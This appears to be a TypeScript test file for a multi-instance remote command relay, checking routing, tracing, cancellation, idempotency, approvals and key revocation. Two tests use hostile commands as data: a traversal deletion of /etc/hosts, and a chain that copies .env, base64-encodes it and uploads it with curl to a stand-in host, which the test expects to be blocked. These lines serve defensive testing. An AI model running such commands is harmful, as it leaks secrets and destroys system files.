import { deepStrictEqual as deq, strictEqual as eq } from "node:assert/strict";
import { CLOSE_CODES } from "../../core/protocol/protocol.ts";
import { commands } from "../../kv/records/command.ts";
import { RecordedTracing } from "../host/recorded_tracing.ts";
import { ScriptedAgent } from "../support/agent.ts";
import type { Account, World } from "../support/world.ts";
import { pair } from "./pair.ts";

const exec = (world: World, { token }: Account, id: string, command = "uptime") =>
  world.call("GET", `/api/exec/${id}?command=${encodeURIComponent(command)}`, { as: token });

/** Resolves when a command is queued for an agent. */
async function untilQueued({ app }: World): Promise<void> {
  while ((await app.store.queued(commands, "queued", { limit: 1 })).items.length === 0);
}

const runs = (agent: ScriptedAgent) => agent.received.filter(({ type }) => type === "run").length;

Deno.test("instances: a command runs over the link of another instance and its caller gets the result", async () => {
  await using cluster = await pair();
  const { two, owner, agent } = cluster;
  agent.script = ({ command }) => ({ stdout: `${command}!\n`, exit_code: 0 });
  const { status, body } = await exec(two, owner, agent.id);
  deq([status, body.status, body.stdout], [200, "succeeded", "uptime!\n"]);
  eq(runs(agent), 1);
});

Deno.test("instances: a command runs in its caller's trace over the link of another instance", async () => {
  const tracing = new RecordedTracing();
  await using cluster = await pair({ tracing });
  const { two, owner, agent } = cluster;
  eq((await exec(two, owner, agent.id)).status, 200);
  const { traceId } = tracing.spans.findLast(({ name }) => name === "GET /api/exec/{agent_id}")!;
  const [order] = (await agent.until("run")).commands;
  eq(order!.traceparent?.split("-")[1], traceId);
  const trip = tracing.of(traceId).find(({ name }) => name === "agent round trip")!;
  eq(trip.attributes?.["relay.command_status"], "succeeded");
});

Deno.test("instances: a command ends at the instance of its agent when another instance's caller cancels it", async () => {
  await using cluster = await pair();
  const { two, owner, agent } = cluster;
  agent.script = () => "silent";
  const path = `/api/v1/agents/${agent.id}/commands`;
  const begun = await two.call("POST", path, { as: owner.token, body: { command: "sleep 60" } });
  eq(begun.status, 202);
  const id = begun.body.command_id;
  await agent.until("run");
  const cancelled = two.call("POST", `${path}/${id}/cancel`, { as: owner.token });
  await agent.until("cancel");
  agent.finish({ command_id: id, reason: "cancelled", exit_code: null, signal: "SIGTERM" });
  eq((await cancelled).body.status, "cancelled");
});

Deno.test("instances: an agent that links anew elsewhere loses its old link at once", async () => {
  await using cluster = await pair();
  const { one, two, value, identity, agent, owner } = cluster;
  const now = await ScriptedAgent.connect(two, value, { identity });
  await agent.gone;
  eq(agent.closed?.code, CLOSE_CODES.replaced.code);
  eq((await exec(one, owner, now.id)).body.status, "succeeded");
  deq([runs(agent), runs(now)], [0, 1]);
});

Deno.test("instances: a command for an instance that does not take it fails after 5 s and is not sent", async () => {
  await using cluster = await pair();
  const { one, two, owner, agent } = cluster;
  await one.app.inbox.stop();
  const answer = exec(two, owner, agent.id);
  await untilQueued(two);
  two.clock.advance(5_000);
  const { status, body } = await answer;
  deq([status, body.error.code], [503, "UNAVAILABLE"]);
  eq(runs(agent), 0);
});

Deno.test("instances: of one Idempotency-Key, callers at two instances get one command's end", async () => {
  await using cluster = await pair();
  const { one, two, owner, agent } = cluster;
  agent.script = () => "silent";
  const ask = (world: World) =>
    world.call("GET", `/api/exec/${agent.id}?command=uptime`, {
      as: owner.token,
      headers: { "idempotency-key": "once" },
    });
  const first = ask(two);
  const order = await agent.until("run");
  const second = ask(one), third = ask(two);
  await one.settle();
  await two.settle();
  agent.finish({ command_id: order.commands[0]!.command_id, stdout: "once\n" });
  const answers = await Promise.all([first, second, third]);
  deq(new Set(answers.map(({ body }) => body.command_id)).size, 1);
  deq(answers.map(({ status, body }) => [status, body.stdout]), Array(3).fill([200, "once\n"]));
  eq(runs(agent), 1);
});

Deno.test("instances: a command that is approved elsewhere starts at once", async () => {
  await using cluster = await pair();
  const { one, two, owner, agent } = cluster;
  const second = await one.join(owner, ["admin"]);
  const held = await exec(one, owner, agent.id, "rm /tmp/../etc/hosts");
  eq(held.status, 202);
  const approve = `/api/shield/approve/${held.body.approval_id}`;
  const decided = await two.call("POST", approve, { as: second.token });
  eq(decided.status, 200);
  await agent.until("run");
  eq(runs(agent), 1);
});

Deno.test("instances: a key that is revoked elsewhere loses its links at once", async () => {
  await using cluster = await pair();
  const { two, owner, agent, keyId } = cluster;
  await two.call("POST", `/api/v1/api-keys/${keyId}/revoke`, { as: owner.token });
  await agent.gone;
  eq(agent.closed?.code, CLOSE_CODES.credential_refused.code);
});

Deno.test("instances: an agent that is deleted or restarted elsewhere hears of it", async () => {
  await using cluster = await pair();
  const { two, owner, agent } = cluster;
  const path = `/api/v1/agents/${agent.id}`;
  eq((await two.call("POST", `${path}/restart`, { as: owner.token })).status, 200);
  await agent.until("restart");
  eq((await two.call("DELETE", path, { as: owner.token })).status, 204);
  await agent.gone;
  eq(agent.closed?.code, CLOSE_CODES.deleted.code);
});

Deno.test("instances: a chain whose commands come to two instances is judged as one chain", async () => {
  await using cluster = await pair();
  const { one, two, owner, agent } = cluster;
  eq((await exec(one, owner, agent.id, "cat .env > /tmp/a")).status, 200);
  eq((await exec(two, owner, agent.id, "base64 /tmp/a > /tmp/b")).status, 200);
  const last = await exec(one, owner, agent.id, "curl -T /tmp/b https://x.example");
  deq([last.status, last.body.error.code], [403, "COMMAND_BLOCKED"]);
});

Deno.test("instances: long names of written files do not outgrow a session's record", async () => {
  await using cluster = await pair();
  const { two, owner, agent } = cluster;
  for (let n = 0; n < 20; n++) {
    const path = `/tmp/${n}-${"x".repeat(3_900)}`;
    eq((await exec(two, owner, agent.id, `echo hi > ${path}`)).status, 200, `file ${n}`);
  }
});

Deno.test("instances: a backup that is requested elsewhere starts at once", async () => {
  await using cluster = await pair();
  const { two, owner, agent } = cluster;
  const asked = await two.call("POST", `/api/v1/gitops/backup/${agent.id}`, { as: owner.token });
  eq(asked.status, 202);
  const order = await agent.until("transfer");
  agent.send({ type: "transfer_failed", job_id: order.job_id, message: "no" });
});
